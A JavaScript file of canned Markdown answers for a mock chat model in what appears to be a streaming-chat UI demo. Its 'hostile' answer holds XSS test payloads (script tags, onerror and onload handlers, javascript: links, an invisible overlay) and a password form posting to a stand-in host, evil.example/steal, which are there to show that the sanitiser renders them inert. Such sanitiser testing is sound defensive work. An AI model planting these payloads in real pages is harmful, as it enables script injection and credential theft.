// The mock model's repertoire: realistic Markdown answers, chosen by keywords in the prompt, so
// the demo shows every kind of content a real model streams (code, tables, nested lists, a long
// article, CJK and right-to-left text, a reasoning preface, hostile HTML).

/**
 * @typedef {{ id: string, match: RegExp, reasoning?: string, text: string }} Answer
 * @typedef {{ id: string, reasoning?: string, text: string }} Reply
 */

const fence = '```';

/** @type {Answer} */
const welcome = {
  id: 'welcome',
  match: /^$/,
  text: `Hello! I am the **mock model** built into the demo. I stream realistic answers token by token, so you can see how \`<stream-chat>\` and \`<token-view>\` behave without an API key or a network.

Try asking for:

- **code** — "read a file line by line in several languages"
- a **table** — "compare the transports"
- a **plan** — "give me a launch checklist" (nested lists)
- something **long** — "explain streaming UIs in detail"
- **reasoning** — "think: how many r's are in strawberry?"
- **中文** — "用中文介绍一下流式输出"
- **hostile** content — "show me an XSS attempt" (it renders inert)
- **math and diagrams** — "math and diagrams" (KaTeX and Mermaid, loaded on first use)

Or make me misbehave on purpose: \`/error 500\`, \`/error 429\`, \`/drop\`, \`/slow\`, \`/malformed\`. Type \`/help\` for details.`,
};

/** @type {Answer} */
const help = {
  id: 'help',
  match: /^\/help\b/,
  text: `## Commands

| prompt | what the mock model does |
| --- | --- |
| \`/error 500\` | answers HTTP 500 with a JSON error body (any status from 400 to 599 works) |
| \`/error 429\` | answers HTTP 429 with \`Retry-After: 1\` |
| \`/drop\` | streams a little, then drops the connection |
| \`/slow\` | waits two seconds, then drips a few tokens per second |
| \`/malformed\` | streams a little, then sends a frame that is not valid for the protocol |
| \`/huge 100kb\` | a generated answer of about that size |

A **retry** of a failed request succeeds, so you can watch the chat recover. Add \`?rate=200\` to an endpoint (or set \`MOCK_RATE\`) to change the pace; the default is about 40 tokens per second.`,
};

/** @type {Answer} */
const code = {
  id: 'code',
  match: /\b(code|python|rust|golang|go|javascript|typescript|bash|shell|file|function|snippet)\b/i,
  text: `Reading a file line by line without loading it whole into memory looks like this in a few languages.

### Python

${fence}python
from pathlib import Path

def count_errors(path: Path) -> int:
    """Counts the lines that mention an error, one line in memory at a time."""
    errors = 0
    with path.open(encoding="utf-8") as lines:
        for line in lines:
            if "ERROR" in line:
                errors += 1
    return errors

print(count_errors(Path("server.log")))
${fence}

### TypeScript (Node.js)

${fence}ts
import { createReadStream } from 'node:fs';
import { createInterface } from 'node:readline';

export async function countErrors(path: string): Promise<number> {
  const lines = createInterface({ input: createReadStream(path), crlfDelay: Infinity });
  let errors = 0;
  for await (const line of lines) {
    if (line.includes('ERROR')) errors += 1;
  }
  return errors;
}
${fence}

### Rust

${fence}rust
use std::fs::File;
use std::io::{self, BufRead, BufReader};

fn count_errors(path: &str) -> io::Result<usize> {
    let reader = BufReader::new(File::open(path)?);
    let mut errors = 0;
    for line in reader.lines() {
        if line?.contains("ERROR") {
            errors += 1;
        }
    }
    Ok(errors)
}
${fence}

### Go

${fence}go
func countErrors(path string) (int, error) {
	file, err := os.Open(path)
	if err != nil {
		return 0, err
	}
	defer file.Close()

	errors := 0
	scanner := bufio.NewScanner(file)
	for scanner.Scan() {
		if strings.Contains(scanner.Text(), "ERROR") {
			errors++
		}
	}
	return errors, scanner.Err()
}
${fence}

### Shell

${fence}bash
grep -c 'ERROR' server.log
${fence}

All five stream the file, so memory stays flat even for a multi-gigabyte log. In Go, raise the scanner's buffer with \`scanner.Buffer(...)\` if a single line can exceed 64 KiB.`,
};

/** @type {Answer} */
const table = {
  id: 'table',
  match: /\b(table|compare|comparison|versus|vs|transports?)\b/i,
  text: `Here is how the four transports compare:

| Transport | Framing | Stop a reply | Best for |
| --- | --- | --- | --- |
| **SSE** | \`data:\` events over \`fetch\` | abort the request | OpenAI-compatible APIs |
| **WebSocket** | one message per frame | \`{"type":"stop"}\` frame | long-lived sessions, tools |
| **NDJSON** | one JSON object per line | abort the request | Ollama's native API |
| **Plain text** | none: the body is the answer | abort the request | the simplest servers |

A few rules of thumb:

1. Prefer **SSE** when the server already speaks it: it passes through proxies and needs no extra infrastructure.
2. Choose **WebSocket** when the client must talk back mid-answer (stop, tool results) or when one connection serves many turns.
3. Use **plain text** for a quick prototype — you lose reasoning, usage and error details.

> Whatever you pick, keep API keys on the server. The browser should only ever see your own endpoint.`,
};

/** @type {Answer} */
const list = {
  id: 'list',
  match: /\b(list|plan|steps|checklist|launch|todo)\b/i,
  text: `A launch checklist for a streaming chat feature:

1. **Before the launch**
   - Load test the model endpoint
     - 50 concurrent streams for ten minutes
     - watch time to first token (p95 under 1.5 s)
   - Decide on limits
     - maximum prompt length
     - tokens per user per day
   - Write the failure copy for rate limits and outages
2. **Launch day**
   - Enable the feature flag for 5% of users
   - Watch the dashboards
     - error rate by status code (\`429\`, \`500\`, \`503\`)
     - streams aborted by users versus dropped by the network
   - Keep a rollback ready
3. **The week after**
   - Read a sample of real conversations (with consent)
   - [x] Add the stop button to the mobile layout
   - [ ] Tune the auto-scroll so it never fights the reader
   - [ ] Ship the dark theme

Everything above fits in one sprint if the transport layer is already solid.`,
};

/** @type {Answer} */
const long = {
  id: 'long',
  match: /\b(long|detail|detailed|essay|article|guide|explain)\b/i,
  text: `# Designing a streaming chat interface

Streaming changes how people read an answer. Instead of waiting several seconds for a finished block of text, they start reading after a few hundred milliseconds, and the interface has to stay calm while the text grows under their eyes. This guide walks through the decisions that matter.

## 1. Time to first token

The first token is the moment the interface proves it is alive. Until it arrives:

- show a **typing indicator** in the place where the answer will appear, not in a corner;
- keep the user's message visible and the composer usable for a draft;
- make the stop button active immediately — people change their minds before the first token, too.

A good target is a first token within one second. Beyond three seconds, say what is happening ("Connecting to the model…").

## 2. Rendering Markdown incrementally

Models write Markdown, and they write it *one fragment at a time*. A naive renderer re-parses the whole answer for every token, which costs \`O(n²)\` work over the answer and makes long replies stutter. A better renderer:

1. splits the source into **blocks** (paragraphs, lists, code fences, tables);
2. renders a block once it is **closed** and never touches it again;
3. re-renders only the **last, open** block on each animation frame.

${fence}ts
// The cheapest possible write path: no parsing here, just buffering.
write(chunk: string): void {
  this.source += chunk;
  if (!this.frame) this.frame = requestAnimationFrame(() => this.render());
}
${fence}

Unterminated syntax needs care. While \`**bold\` is still open, either render it as bold already or as plain text, but never flash raw asterisks and then jump.

## 3. Safety

An answer is untrusted input. The model may repeat a web page, a user may paste HTML, and an attacker may plant instructions that make the model emit a script tag. Every fragment must pass through a sanitiser *after* Markdown is turned into HTML:

| Threat | Example | Defence |
| --- | --- | --- |
| Script injection | \`<script>…</script>\` | remove the element |
| Event handlers | \`<img onerror=…>\` | remove the attribute |
| Dangerous URLs | \`javascript:\` links | allow only \`http\`, \`https\`, \`mailto\` |
| Tracking pixels | remote images | placeholder until the user opts in |

## 4. Scrolling

The single most reported annoyance in chat interfaces is scroll that fights the reader. The rule is simple to state and surprisingly hard to get right:

> Follow the answer while the reader is at the bottom. The moment they scroll up, stop following, and offer a way back.

Edge cases include high-DPI screens where \`scrollTop\` is fractional, content that reflows above the viewport when a code block is highlighted, and touch momentum that continues after the finger is lifted.

## 5. Stopping and errors

Stopping must *actually stop*: abort the request so the server stops generating and stops billing. Keep the partial answer on screen and mark it as stopped. Errors deserve the same respect:

- show the server's own message when it gives one;
- offer **Retry**, and keep the user's draft;
- for \`429\`, honour \`Retry-After\` instead of hammering the server.

## 6. Accessibility

Screen readers should hear the answer **once, complete**, not token by token. Mark the list as a log, set \`aria-busy\` while streaming, and announce errors assertively. Every control must work from the keyboard, and Escape should stop a running reply.

## 7. Performance budget

- One layout per animation frame, at most.
- No work in the token callback beyond appending to a buffer.
- Finished messages opt out of rendering work with \`content-visibility: auto\`.
- Twenty chats streaming at once should still scroll smoothly.

## Summary

A streaming interface is judged in its first second and in its worst moment. Get the first token on screen quickly, render incrementally and safely, respect the reader's scroll position, and make stop and retry boringly reliable. The rest is styling.`,
};

/** @type {Answer} */
const reasoning = {
  id: 'reasoning',
  match: /\b(think|thinking|reason|reasoning|why|puzzle|riddle|how many|strawberry)\b/i,
  reasoning: `The user asks how many times the letter "r" appears in "strawberry". Let me spell it out: s-t-r-a-w-b-e-r-r-y.

Positions: s(1) t(2) r(3) a(4) w(5) b(6) e(7) r(8) r(9) y(10).

The letter r appears at positions 3, 8 and 9. That is three. A common mistake is to count only the double "rr" and forget the first one after "st". Let me double-check by splitting into parts: "straw" has one r, "berry" has two. Total: 3.`,
  text: `There are **3** letter r's in "strawberry":

- one in **str**aw
- two in be**rr**y

Spelled out: s-t-**r**-a-w-b-e-**r**-**r**-y.`,
};

/** @type {Answer} */
const chinese = {
  id: 'chinese',
  match: /[\u3400-\u9fff]|\bchinese\b/i,
  text: `## 什么是流式输出？

**流式输出**（streaming）是指模型一边生成、一边把结果发送给客户端，而不是等整段回答写完再一次性返回。这样用户在几百毫秒内就能看到第一个字，体验会流畅很多。

### 常见的传输方式

| 方式 | 特点 | 典型场景 |
| --- | --- | --- |
| SSE | 单向推送，基于 HTTP | OpenAI 兼容接口 |
| WebSocket | 双向通信，可以中途发送“停止” | 长连接会话 |
| NDJSON | 每行一个 JSON 对象 | Ollama 原生接口 |

### 前端需要注意的几点

1. **增量渲染**：只重新渲染最后一个未完成的段落，已完成的部分保持不变。
2. **安全**：模型输出属于不可信内容，必须经过 HTML 净化。
3. **滚动**：用户向上翻看时，不要强行把页面拉回底部。
4. **输入法**：使用拼音或五笔输入时，按回车确认候选词不应该直接发送消息。

${fence}js
chat.addEventListener('stream-end', (event) => {
  console.log('回答完成：', event.detail.message.content);
});
${fence}

总之，好的流式界面应该让人感觉不到“流式”本身——文字自然出现，随时可以停止，出错时也能轻松重试。`,
};

/** @type {Answer} */
const arabic = {
  id: 'arabic',
  match: /[\u0590-\u08ff]|\b(arabic|hebrew|rtl)\b/i,
  text: `## البث المباشر للإجابات

عندما يرسل النموذج إجابته **كلمةً بكلمة**، يبدأ المستخدم بالقراءة فوراً بدلاً من الانتظار. هذه بعض النصائح لواجهة تدعم الكتابة من اليمين إلى اليسار:

1. استخدم الخاصية \`dir="rtl"\` على العنصر نفسه.
2. اعتمد على الخصائص المنطقية في CSS مثل \`margin-inline-start\`.
3. اترك الشيفرة البرمجية من اليسار إلى اليمين:

${fence}html
<stream-chat dir="rtl" lang="ar" endpoint="/v1/chat/completions"></stream-chat>
${fence}

| الميزة | الحالة |
| --- | --- |
| اتجاه النص | ✓ |
| زر الإيقاف | ✓ |
| إعادة المحاولة | ✓ |`,
};

/** @type {Answer} */
const hostile = {
  id: 'hostile',
  match: /\b(xss|hostile|unsafe|inject|injection|malicious|script)\b/i,
  text: `Here is an answer that tries every trick in the book. None of it should run — the renderer sanitises the HTML after turning Markdown into it.

<script>alert('script tag')</script>

<img src="x" onerror="alert('onerror handler')" alt="broken image with a handler">

<a href="javascript:alert('javascript link')">a javascript: link in HTML</a> and [a javascript: link in Markdown](javascript:alert('markdown link')).

<iframe src="https://example.com/"></iframe>

<div onclick="alert('click handler')" style="position:fixed;inset:0">an invisible overlay</div>

<form action="https://evil.example/steal"><input name="password" placeholder="Password"></form>

<svg><script>alert('svg script')</script><circle r="4" onload="alert('svg onload')"/></svg>

If you can read this paragraph and no alert appeared, the sanitiser did its job.`,
};

/** @type {Answer} */
const math = {
  id: 'math',
  match: /\b(math|maths|formulas?|equations?|latex|katex|diagrams?|mermaid|flowchart)\b/i,
  text: String.raw`Formulas stream as their source and turn into math once complete. Inline, Euler's identity $e^{i\pi} + 1 = 0$ and the roots \(x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}\); a price like $5 or $10 stays text.

On its own line:

$$
\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}
$$

\[
\sum_{n=1}^{\infty} \frac{1}{n^2} = \frac{\pi^2}{6}
\]

| quantity | formula |
| --- | --- |
| kinetic energy | $E_k = \tfrac{1}{2}mv^2$ |
| mass–energy | $E = mc^2$ |

And a diagram, drawn once its block is finished (the **Source** button shows what I wrote):

${fence}mermaid
flowchart LR
  prompt[Prompt] --> model{Model}
  model -->|tokens| view[token-view]
  view --> math[KaTeX]
  view --> diagram[Mermaid]
${fence}`,
};

/** The answers, most specific first; the first whose pattern matches the prompt wins. */
export const ANSWERS = [help, hostile, reasoning, math, chinese, arabic, code, table, list, long];

/** Every distinct answer by id, for tests and stories. */
export const ANSWERS_BY_ID = Object.fromEntries(
  [welcome, ...ANSWERS].map((answer) => [answer.id, answer]),
);

/**
 * The reply the mock model gives to a prompt: the first matching answer, or the welcome text.
 * `/huge <size>` builds a generated answer of about that size (e.g. `/huge 100kb`).
 * @param {string} prompt
 * @returns {Reply}
 */
export function chooseAnswer(prompt) {
  const text = prompt.trim();
  const huge = /^\/huge\s*(\d+)\s*(kb|k)?\b/i.exec(text);
  if (huge) {
    const size = Number(huge[1]) * (huge[2] ? 1000 : 1);
    return { id: 'huge', text: hugeAnswer(size) };
  }
  const answer = ANSWERS.find((candidate) => candidate.match.test(text)) ?? welcome;
  return answer.reasoning === undefined
    ? { id: answer.id, text: answer.text }
    : { id: answer.id, reasoning: answer.reasoning, text: answer.text };
}

/**
 * A long answer of at least `size` characters (capped at 2 MB), made of the other answers as
 * numbered chapters, so it exercises every block type.
 * @param {number} size
 * @returns {string}
 */
export function hugeAnswer(size) {
  const target = Math.min(Math.max(size, 1), 2_000_000);
  const chapters = [long, code, table, list, chinese, reasoning];
  let text = '';
  for (let index = 0; text.length < target; index += 1) {
    const chapter = chapters[index % chapters.length];
    if (chapter === undefined) break;
    text += `${text === '' ? '' : '\n\n'}# Chapter ${index + 1}: ${chapter.id}\n\n${chapter.text}`;
  }
  return text;
}
